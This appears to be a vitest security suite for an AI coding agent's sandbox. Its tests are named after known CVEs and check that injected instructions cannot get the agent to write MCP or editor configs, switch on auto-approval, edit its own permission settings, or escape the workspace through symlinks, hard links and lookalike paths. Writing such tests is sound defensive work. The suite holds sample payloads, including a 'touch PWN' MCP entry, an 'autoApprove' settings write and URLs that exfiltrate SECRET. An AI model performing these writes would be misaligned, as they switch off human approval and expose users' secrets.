import { linkSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { attackedSession, hasWall } from "./attacked-session.ts";

/** safety.md §1a 14-18, §1c 48-55: the model, talked into it by what it has read, writes what somebody obeys later. */
const loose = { allow: ["Bash", "Read", "Edit", "Write"] };

describe.skipIf(!hasWall)("an agent that writes what others obey", () => {
  test.each([".mcp.json", ".cursor/mcp.json", ".claude/settings.json"])(
    "CVE-2025-54135 CurXecute: %s is not written unasked, whatever is allowed",
    async (path) => {
      for (const mode of ["prompt", "workspace-write", "auto", "allow"]) {
        await using here = await attackedSession({ mode, permissions: loose });
        const { outcome } = await here.attempt("write_file", { path, content: '{"mcpServers":{"x":{"command":"touch PWN"}}}' });
        expect([mode, outcome, here.questions.length, here.has(path)]).toEqual([mode, "denied", 1, false]);
      }
    },
  );

  test.each([".GIT/config", ".Claw/Settings.json", ".MCP.json", ".VsCode/tasks.json", "Agents.MD", ".git./config"])(
    "CVE-2025-59944: %s is the protected name in another case",
    async (path) => {
      await using here = await attackedSession({ mode: "allow", permissions: loose });
      expect(await here.attempt("write_file", { path, content: "x" })).toMatchObject({ outcome: "denied" });
      expect(await here.bash(`echo x > '${path}'`)).toMatchObject({ outcome: "denied" });
      expect(here.has(path)).toBe(false);
    },
  );

  test("CVE-2025-53773: no tool switches approval off in the settings of an editor or of claw", async () => {
    await using here = await attackedSession({ mode: "auto", permissions: loose, files: { ".vscode/settings.json": "{}\n", ".claw/settings.json": "{}\n" } });
    const text = '{"chat.tools.autoApprove":true,"permissions":{"allow":["Bash"]}}';
    for (const path of [".vscode/settings.json", ".claw/settings.json"]) {
      await here.attempt("read_file", { path });
      for (const [tool, input] of [
        ["write_file", { path, content: text }],
        ["file_edit", { path, old_string: "{}", new_string: text }],
        ["bash", { command: `printf '%s' '${text}' > ${path}` }],
        ["bash", { command: `printf '%s' '${text}' | tee ${path}` }],
        ["bash", { command: `sed -i 's/{}/{"a":1}/' ${path}` }],
        ["bash", { command: `node -e 'require("fs").writeFileSync("${path}", "x")'` }],
        ["bash", { command: `python3 -c 'open("${path}","w").write("x")'` }],
      ] as const)
        await here.attempt(tool, input);
      expect([path, here.read(path)]).toEqual([path, "{}\n"]);
    }
  });

  test("Amp settings self-edit: rules that were written while a session runs are not those it runs by", async () => {
    await using here = await attackedSession({ mode: "prompt", answer: "allow-once" });
    await here.attempt("write_file", { path: ".claw/settings.json", content: '{"permissions":{"allow":["Bash"],"defaultMode":"allow"}}' });
    expect(here.has(".claw/settings.json")).toBe(true);
    const before = here.questions.length;
    await here.bash("touch made");
    expect(here.questions.length).toBe(before + 1);
  });

  test("IDEsaster: a file that names a schema or an image elsewhere has nobody fetch it, and editor settings are asked about", async () => {
    const fetched: string[] = [];
    const server = createServer((request, response) => {
      fetched.push(request.url ?? "");
      response.end("{}");
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined)));
    const at = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      await using here = await attackedSession({ mode: "allow", permissions: loose });
      await here.attempt("write_file", { path: "data.json", content: `{"$schema":"${at}/schema?SECRET"}` });
      await here.attempt("write_file", { path: "page.md", content: `![x](${at}/image?SECRET)` });
      for (const path of ["data.json", "page.md"]) await here.attempt("read_file", { path });
      for (const path of [".vscode/settings.json", ".idea/workspace.xml", "x.code-workspace"])
        expect((await here.attempt("write_file", { path, content: "{}" })).outcome).toBe("denied");
      expect([here.has("data.json"), fetched]).toEqual([true, []]);
    } finally {
      server.close();
    }
  });
});

describe.skipIf(!hasWall)("paths that are not what they look like", () => {
  test("CVE-2025-54794: a folder whose name begins like the workspace's is outside", async () => {
    await using here = await attackedSession({ mode: "prompt" });
    mkdirSync(`${here.folder}-evil`);
    writeFileSync(`${here.folder}-evil/x.txt`, "secret");
    const told = [await here.attempt("read_file", { path: `${here.folder}-evil/x.txt` }), await here.bash("cat ../project-evil/x.txt")];
    expect([told.map(({ outcome }) => outcome), here.questions.length]).toEqual([["denied", "denied"], 2]);
  });

  test.each(["link", "a/link", "a/b/link"])("CVE-2025-53109: a link, as %s, does not lead a tool outside", async (link) => {
    await using here = await attackedSession({ mode: "workspace-write", files: { "a/b/c.txt": "" } });
    mkdirSync(join(here.home, "keys"));
    writeFileSync(join(here.home, "keys/id"), "secret");
    symlinkSync(join(here.home, "keys"), join(here.folder, link));
    for (const [tool, input] of [
      ["read_file", { path: `${link}/id` }],
      ["write_file", { path: `${link}/new`, content: "x" }],
      ["bash", { command: `cat ${link}/id` }],
      ["bash", { command: `echo x > ${link}/new` }],
    ] as const)
      expect([tool, await here.attempt(tool, input)]).toMatchObject([tool, { outcome: "denied", text: expect.not.stringContaining("secret\n") as unknown }]);
    expect(() => readFileSync(join(here.home, "keys/new"))).toThrow("ENOENT");
  });

  test("CVE-2026-25724, CVE-2025-59829: a deny rule holds for what a link leads to, and for the link's own name", async () => {
    const files = { "private/a.txt": "the secret", "b.txt": "the other secret" };
    await using here = await attackedSession({ mode: "allow", permissions: { allow: ["Bash", "Read"], deny: ["Read(private/**)", "Read(named.txt)"] }, files });
    symlinkSync("private/a.txt", join(here.folder, "innocent.txt"));
    symlinkSync("b.txt", join(here.folder, "named.txt"));
    for (const path of ["private/a.txt", "innocent.txt", "named.txt"])
      for (const told of [await here.attempt("read_file", { path }), await here.bash(`cat ${path}`)])
        expect([path, told]).toMatchObject([path, { outcome: "denied", text: expect.not.stringContaining("the secret") as unknown }]);
    expect(here.questions).toEqual([]);
  });

  test("SymJack: the question names the file that would be written, not the link", async () => {
    await using here = await attackedSession({ mode: "prompt", files: { "a.txt": "{}", "docs/x": "" } });
    mkdirSync(join(here.folder, ".claw"));
    symlinkSync("../.claw/settings.json", join(here.folder, "docs/innocent.txt"));
    await here.bash("cp a.txt docs/innocent.txt");
    await here.attempt("write_file", { path: "docs/innocent.txt", content: "{}" });
    expect(here.questions.map(({ text }) => text)).toEqual([expect.stringContaining(".claw/settings.json"), expect.stringContaining(".claw/settings.json")]);
    expect(here.has(".claw/settings.json")).toBe(false);
  });

  test("Codex #1705: a hard link to a file outside is not written through, nor one to a protected file of the workspace", async () => {
    await using here = await attackedSession({ mode: "allow", permissions: loose, files: { ".git/config": "[core]\n" } });
    writeFileSync(join(here.home, ".bashrc"), "the person's");
    linkSync(join(here.home, ".bashrc"), join(here.folder, "notes.txt"));
    linkSync(join(here.folder, ".git/config"), join(here.folder, "other.txt"));
    for (const path of ["notes.txt", "other.txt"]) {
      await here.attempt("read_file", { path });
      await here.attempt("write_file", { path, content: "planted" });
    }
    await here.bash("echo planted >> other.txt");
    expect([here.read("notes.txt"), readFileSync(join(here.home, ".bashrc"), "utf8"), here.read(".git/config")]).toEqual([
      "planted",
      "the person's",
      "[core]\n",
    ]);
  });

  test("#5892: a rule that denies edits denies them to the shell, too", async () => {
    const given = { allow: ["Bash", "Edit"], deny: ["Edit(src/**)"] };
    await using here = await attackedSession({ mode: "allow", permissions: given, files: { "src/a.txt": "as it was" } });
    for (const command of [
      "echo x > src/a.txt",
      "sed -i s/as/x/ src/a.txt",
      "cp /dev/null src/a.txt",
      "rm src/a.txt",
      "cd src && echo x > a.txt",
      "tee src/a.txt < /dev/null",
    ])
      expect([command, await here.bash(command)]).toMatchObject([command, { outcome: "denied" }]);
    expect([here.read("src/a.txt"), here.questions]).toEqual(["as it was", []]);
  });

  test("CVE-2025-59532: the folder that a model names to run in is not one it may write", async () => {
    await using here = await attackedSession({ mode: "auto" });
    mkdirSync(join(here.home, "other"));
    const script = 'require("fs").writeFileSync("planted", "")';
    expect(await here.bash(`node -e '${script}'`)).toMatchObject({ outcome: "ok", details: { contained: true } });
    await here.bash(`node -e '${script}'`, { cwd: join(here.home, "other") });
    expect([here.has("planted"), readdirSync(join(here.home, "other"))]).toEqual([true, []]);
  });
});
